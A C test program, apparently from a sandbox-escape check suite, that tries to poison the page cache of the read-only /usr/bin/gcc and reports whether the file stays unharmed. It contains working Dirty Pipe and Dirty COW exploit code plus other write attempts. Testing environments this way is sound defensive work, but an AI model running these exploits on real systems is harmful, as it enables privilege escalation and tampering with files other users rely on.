/* Writes into the page cache of a read-only file of the image by the known tricks of that class, bounded by a time. */
#include "escape.h"
#include <sys/uio.h>

enum { RACE_MS = 100, BYTES = 4096 };
static const char TARGET[] = "/usr/bin/gcc";
static char *mapped;
static volatile int racing = 1;

/* Dirty Pipe (CVE-2022-0847): a page spliced into a pipe whose buffers were once writable. */
static void dirty_pipe(int fd)
{
	static char block[4096];
	int ends[2];
	loff_t offset = 0;
	if (pipe(ends) == -1)
		return;
	for (int i = 0; i < 16; i++)
		(void)!write(ends[1], block, sizeof block);
	for (int i = 0; i < 16; i++)
		(void)!read(ends[0], block, sizeof block);
	long spliced = splice(fd, &offset, ends[1], NULL, 1, 0);
	say("splice=%s\n", outcome(spliced));
	(void)!write(ends[1], "poisoned", 8);
	say("vmsplice=%s\n", outcome(vmsplice(ends[1], &(struct iovec){ block, sizeof block }, 1, SPLICE_F_GIFT)));
}

static void *drop_pages(void *unused)
{
	while (racing)
		madvise(mapped, BYTES, MADV_DONTNEED);
	return unused;
}

static void *write_by_proc(void *unused)
{
	int memory = open("/proc/self/mem", O_RDWR);
	while (racing) {
		lseek(memory, (off_t)(uintptr_t)mapped, SEEK_SET);
		(void)!write(memory, "poisoned", 8);
	}
	return unused;
}

/* Dirty COW (CVE-2016-5195): the private copy goes away while it is being written. */
static void dirty_cow(int fd)
{
	pthread_t threads[2];
	mapped = mmap(NULL, BYTES, PROT_READ, MAP_PRIVATE, fd, 0);
	pthread_create(&threads[0], NULL, drop_pages, NULL);
	pthread_create(&threads[1], NULL, write_by_proc, NULL);
	usleep(RACE_MS * 1000);
	racing = 0;
	pthread_join(threads[0], NULL);
	pthread_join(threads[1], NULL);
	say("raced\n");
}

int main(void)
{
	char before[BYTES], after[BYTES];
	int fd = open(TARGET, O_RDONLY);
	if (fd == -1 || pread(fd, before, BYTES, 0) != BYTES)
		return 2;
	dirty_pipe(fd);
	dirty_cow(fd);
	say("socket(AF_ALG)=%s\n", outcome(socket(AF_ALG, SOCK_SEQPACKET, 0)));
	say("mmap(MAP_SHARED, PROT_WRITE)=%s\n", outcome(mmap(NULL, BYTES, PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0));
	say("fallocate=%s\n", outcome(fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, BYTES)));
	say("file %s\n", pread(fd, after, BYTES, 0) == BYTES && memcmp(before, after, BYTES) == 0 ? "unharmed" : "poisoned");
	return 0;
}
